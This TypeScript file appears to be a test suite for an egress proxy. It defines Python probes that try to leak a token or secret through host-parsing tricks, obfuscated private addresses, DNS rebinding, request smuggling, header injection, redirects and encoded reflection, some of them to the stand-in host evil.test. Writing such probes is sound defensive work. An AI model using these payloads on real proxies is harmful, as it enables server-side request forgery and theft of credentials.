// Owns the programs that go through the proxy and past its decision: names that two readers read in two
// ways, requests with two ends, redirects, names that change, and secrets that shall not be seen.

import { arrivedAt, printedSecret, secretArrivedAt } from '../evidence.ts';
import type { Probe } from '../probe.ts';

const ONE_READING = 'one reading of the host serves the decision and the connection';
const AMBIGUOUS = 'what two readers could read in two ways is refused';

type Through = Pick<Probe, 'id' | 'class' | 'tries' | 'standsFor' | 'program' | 'fails'> &
  Partial<Probe>;

/** A program that has the proxy send its token to a place that its rules do not have. */
function through(at: RegExp, probe: Through): Probe {
  return {
    language: 'python',
    rights: 'host',
    recorded: 'its token arrives at the place, through a proxy that reads carelessly',
    succeeded: arrivedAt(at),
    why: ONE_READING,
    needsRoot: true,
    ...probe,
  };
}

const EVIL = /^tcp 93\.184\.216\.99:/;
const PRIVATE = /^tcp 10\.1\.2\.3:/;
const LOOPBACK = /^tcp (?:127\.0\.0\.1|::1):(?:80|443)$/;
const INVALID = /EGRESS_(?:HOST_INVALID|REQUEST|HOST)"/;
const CLOSED = /EGRESS_ADDRESS/;

/** Python that asks for an absolute URL; `host` is an expression of the Host field. */
const get = (url: string, host = `'api.example.com'`): string =>
  `print(proxy('GET ${url}/' + G['token'] + ' HTTP/1.1\\r\\nHost: ' + ${host} + '\\r\\nConnection: close\\r\\n\\r\\n'))`;

const characterProbes: readonly Probe[] = [
  through(EVIL, {
    id: 'nul-in-host',
    class: 'hosts with special characters',
    tries: 'ends the name early by a NUL',
    standsFor: 'CWE-158 Improper Neutralization of Null Byte or NUL Character',
    program: get('http://evil.test\\0.api.example.com'),
    fails: INVALID,
    isQuick: true,
  }),
  through(EVIL, {
    id: 'user-in-host',
    class: 'hosts with special characters',
    tries: 'writes the declared host as the user of another one (@)',
    standsFor: 'CVE-2018-3774 url-parse returns the wrong host name',
    program: get('http://api.example.com@evil.test'),
    fails: INVALID,
  }),
  through(EVIL, {
    id: 'backslash-in-host',
    class: 'hosts with special characters',
    tries: 'ends the name by a backslash',
    standsFor: 'CVE-2021-27515 url-parse mishandles backslashes',
    program: get('http://evil.test\\\\.api.example.com'),
    fails: INVALID,
  }),
  through(EVIL, {
    id: 'fragment-in-host',
    class: 'hosts with more parts',
    tries: 'ends the name by a #',
    standsFor: 'CVE-2016-8624 curl reads a host past #',
    program: get('http://evil.test#.api.example.com'),
    fails: INVALID,
  }),
  through(EVIL, {
    id: 'tunnel-user',
    class: 'hosts with more parts',
    tries: 'asks for a tunnel to a host with a user',
    standsFor: 'CWE-436 Interpretation Conflict',
    program: `
print(proxy('CONNECT api.example.com@evil.test:80 HTTP/1.1\\r\\nHost: api.example.com:80\\r\\n\\r\\n', G['token']))`,
    fails: INVALID,
  }),
];

const addressProbes: readonly Probe[] = [
  through(PRIVATE, {
    id: 'decimal-address',
    class: 'addresses in other spellings',
    tries: 'writes a private address as one number, and in hexadecimal',
    standsFor: 'CVE-2023-42282 npm ip takes 0x7f.1 for public',
    rights: 'web',
    program: `${get('http://167838211', `'167838211'`)}\n${get('http://0x0a.0x01.0x0203', `'0x0a.0x01.0x0203'`)}`,
    fails: CLOSED,
  }),
  through(PRIVATE, {
    id: 'octal-address',
    class: 'addresses in other spellings',
    tries: 'writes a private address in octal',
    standsFor: 'CVE-2021-29921 Python ipaddress and leading zeros',
    rights: 'web',
    program: get('http://012.01.02.03', `'012.01.02.03'`),
    fails: CLOSED,
  }),
  through(PRIVATE, {
    id: 'mapped-address',
    class: 'addresses in other spellings',
    tries: 'writes a private address as an IPv6 one',
    standsFor: 'CVE-2024-29415 npm ip takes ::fFFf:127.0.0.1 for public',
    rights: 'web',
    program: get('http://[::ffff:10.1.2.3]', `'[::ffff:10.1.2.3]'`),
    fails: CLOSED,
    isQuick: true,
  }),
  through(LOOPBACK, {
    id: 'trailing-dot',
    class: 'names of the machine',
    tries: 'writes localhost with a final dot',
    standsFor: 'CVE-2022-30115 curl and names with a final dot',
    rights: 'web',
    program: get('http://localhost.', `'localhost.'`),
    fails: /EGRESS_HOST"/,
  }),
  through(PRIVATE, {
    id: 'private-name',
    class: 'names of the machine',
    tries: 'uses a declared name that leads to a private address',
    standsFor: 'CWE-918 Server-Side Request Forgery',
    program: get('http://private.example.com', `'private.example.com'`),
    fails: CLOSED,
    why: 'every address of a name must be public',
  }),
  through(LOOPBACK, {
    id: 'changing-name',
    class: 'names that change',
    tries: 'uses a name whose address changes between the check and the connection',
    standsFor: 'CWE-367 Time-of-check Time-of-use Race Condition',
    program: `
for i in range(3):
  ${get(`http://r' + str(i) + G['token'] + '.rebind.example.com`, `'r%d' % i + G['token'] + '.rebind.example.com'`)}`,
    fails: /HTTP\/1\.1 200 OK/,
    why: 'a name is resolved once, and what was checked is what is dialled',
  }),
  through(PRIVATE, {
    id: 'two-addresses',
    class: 'names that change',
    tries: 'uses a name with a public address that does not answer and a private one',
    standsFor: 'CWE-350 Reliance on Reverse DNS Resolution for a Security-Critical Action',
    program: get('http://both.example.com', `'both.example.com'`),
    fails: CLOSED,
    why: 'every address of a name must be public',
  }),
];

const requestProbes: readonly Probe[] = [
  through(EVIL, {
    id: 'two-hosts',
    class: 'two hosts in a request',
    tries: 'sends two Host fields',
    standsFor: 'CWE-436 Interpretation Conflict',
    program: `
print(proxy('GET /' + G['token'] + ' HTTP/1.1\\r\\nHost: api.example.com\\r\\nHost: evil.test\\r\\n\\r\\n'))`,
    fails: /EGRESS_REQUEST/,
    why: AMBIGUOUS,
  }),
  through(EVIL, {
    id: 'host-and-target',
    class: 'two hosts in a request',
    tries: 'names the declared host in Host and another one in the target',
    standsFor: 'ATT&CK T1090.004 Domain Fronting',
    program: get('http://evil.test'),
    fails: /EGRESS_(?:REQUEST|HOST)"/,
    why: AMBIGUOUS,
  }),
  through(EVIL, {
    id: 'tunnel-and-host',
    class: 'two hosts in a request',
    tries: 'asks for a tunnel to one host, and names another in Host',
    standsFor: 'CWE-441 Unintended Proxy or Intermediary',
    program: `
print(proxy('CONNECT evil.test:80 HTTP/1.1\\r\\nHost: api.example.com:443\\r\\n\\r\\n', G['token']))`,
    fails: /EGRESS_(?:REQUEST|HOST)"/,
    why: AMBIGUOUS,
  }),
  through(/^request /, {
    id: 'length-and-chunks',
    class: 'requests in requests',
    tries: 'hides a request in a body with a length and chunks',
    standsFor: 'CVE-2022-32213 Node.js and Transfer-Encoding',
    program: smuggled('Content-Length: %d\\r\\nTransfer-Encoding: chunked'),
    fails: /400 Bad Request/,
    why: AMBIGUOUS,
  }),
  through(/^request /, {
    id: 'folded-chunks',
    class: 'requests in requests',
    tries: 'hides a request behind Transfer-Encoding on two lines',
    standsFor: 'CVE-2022-32215 Node.js and Transfer-Encoding on two lines',
    program: smuggled('Content-Length: %d\\r\\nTransfer-Encoding:\\r\\n chunked'),
    fails: /400 Bad Request/,
    why: AMBIGUOUS,
  }),
  through(/^request /, {
    id: 'lone-line-feed',
    class: 'requests in requests',
    tries: 'hides a request behind a field that ends with a line feed alone',
    standsFor: 'CVE-2022-32214 Node.js and lines without CR',
    program: smuggled('Content-Length: %d\\r\\nX: y\\nTransfer-Encoding: chunked'),
    fails: /400 Bad Request/,
    why: AMBIGUOUS,
  }),
  through(/^field x-injected$/, {
    id: 'line-end-in-path',
    class: 'fields in fields',
    tries: 'writes a field of its own into the request by an escaped line end',
    standsFor: 'CVE-2019-9740 Python urllib and line ends in a URL',
    program: `
print(proxy('GET http://api.example.com/a%20HTTP/1.1%0d%0aX-Injected:%20' + G['token'] + '%0d%0aX: HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n'))`,
    fails: /HTTP\/1\.1 (?:200|400)/,
    why: 'a path is passed on as it was written, or not at all',
  }),
  through(PRIVATE, {
    id: 'redirect-to-private',
    class: 'redirects',
    tries: 'is led on to a private address by a declared host',
    standsFor: 'CWE-918 Server-Side Request Forgery',
    program: redirected(`'http://10.1.2.3/' + G['token']`),
    fails: /EGRESS_REDIRECT/,
    why: 'a redirect is decided like a request of its own',
    isQuick: true,
  }),
  through(EVIL, {
    id: 'redirect-to-other',
    class: 'redirects',
    tries: 'is led on to a host that nobody declared',
    standsFor: 'CWE-601 URL Redirection to Untrusted Site',
    program: redirected(`'http://evil.test/' + G['token']`),
    fails: /EGRESS_REDIRECT/,
    why: 'a redirect is decided like a request of its own',
  }),
];

const OTHER = /^request 93\.184\.216\.35/;

const secretProbes: readonly Probe[] = [
  through(OTHER, {
    id: 'redirect-with-secret',
    class: 'redirects',
    tries: 'is led on to another declared host, with the secret in its fields',
    standsFor: 'CVE-2018-1000007 curl sends credentials on to where it is redirected',
    program: redirected(`'http://other.example.com/'`, 'X-Key: {{secret:api}}\\r\\n'),
    recorded: 'the secret arrives at the other host',
    succeeded: secretArrivedAt(OTHER),
    fails: /HTTP\/1\.1 200/,
    why: 'fields with secrets stay with the host that they were for',
  }),
  through(OTHER, {
    id: 'secret-to-other',
    class: 'secrets on their way',
    tries: 'sends the secret to a declared host that it is not for',
    standsFor: 'ATT&CK T1567 Exfiltration Over Web Service',
    program: `
print(proxy('POST http://other.example.com/ HTTP/1.1\\r\\nHost: other.example.com\\r\\nContent-Type: text/plain\\r\\nContent-Length: 14\\r\\n\\r\\n{{secret:api}}'))`,
    recorded: 'the secret arrives at the other host',
    succeeded: secretArrivedAt(/^tcp 93\.184\.216\.35:/),
    fails: /EGRESS_SECRET/,
    why: 'a placeholder is filled for the hosts of its secret only',
  }),
  through(OTHER, {
    id: 'wrong-certificate',
    class: 'secrets on their way',
    tries: 'sends data to who answers for a declared host without its certificate',
    standsFor: 'ATT&CK T1557 Adversary-in-the-Middle',
    program: get('http://bad.example.com', `'bad.example.com'`),
    recorded: 'the request arrives there',
    succeeded: arrivedAt(/^request 93\.184\.216\.66/),
    fails: /EGRESS_UPSTREAM/,
    why: 'the proxy opens TLS itself and verifies the certificate',
  }),
  ...(['base64', 'chunks', 'hexadecimal'] as const).map((form, index) =>
    through(OTHER, {
      id: `reflected-${form}`,
      class: 'secrets sent back',
      tries: `has a host send the secret back, ${['in base64', 'a character at a time', 'in hexadecimal'][index] ?? ''}`,
      standsFor:
        [
          'ATT&CK T1132.001 Standard Encoding',
          'CWE-201 Insertion of Sensitive Information Into Sent Data',
          'ATT&CK T1027 Obfuscated Files or Information',
        ][index] ?? '',
      program: `
import base64, re
a = proxy('GET http://api.example.com/reflect/${form} HTTP/1.1\\r\\nHost: api.example.com\\r\\nX-Key: {{secret:api}}\\r\\nConnection: close\\r\\n\\r\\n')
print(a)
b = a.split('\\r\\n\\r\\n', 1)[-1]
if '${form}' == 'base64':
  for w in re.findall('[A-Za-z0-9+/=]{16,}', b): print(base64.b64decode(w + '=='))
elif '${form}' == 'chunks': print(''.join(b.split('\\r\\n')[1::2]))
else:
  for w in re.findall('(?:[0-9a-f]{2}){16,}', b): print(bytes.fromhex(w))`,
      recorded: 'the secret in its output',
      succeeded: printedSecret,
      fails: /HTTP\/1\.1 200[^]*secret/,
      why: 'what comes back has placeholders again, however it is written',
      isQuick: form === 'base64',
    }),
  ),
];

/** Python that sends a body in which a second request is hidden; `%d` is its length. */
function smuggled(fields: string): string {
  return `
body = '0\\r\\n\\r\\nGET /' + G['token'] + ' HTTP/1.1\\r\\nHost: api.example.com\\r\\nConnection: close\\r\\n\\r\\n'
print(proxy('POST http://api.example.com/outer HTTP/1.1\\r\\nHost: api.example.com\\r\\n${fields}\\r\\n\\r\\n' % len(body) + body))`;
}

/** Python that asks a declared host which sends it on; `to` is an expression. */
function redirected(to: string, fields = ''): string {
  return `
print(proxy('GET http://api.example.com/redirect?to=' + ${to} + ' HTTP/1.1\\r\\nHost: api.example.com\\r\\n${fields}Connection: close\\r\\n\\r\\n'))`;
}

export const proxyProbes: readonly Probe[] = [
  ...characterProbes,
  ...addressProbes,
  ...requestProbes,
  ...secretProbes,
];
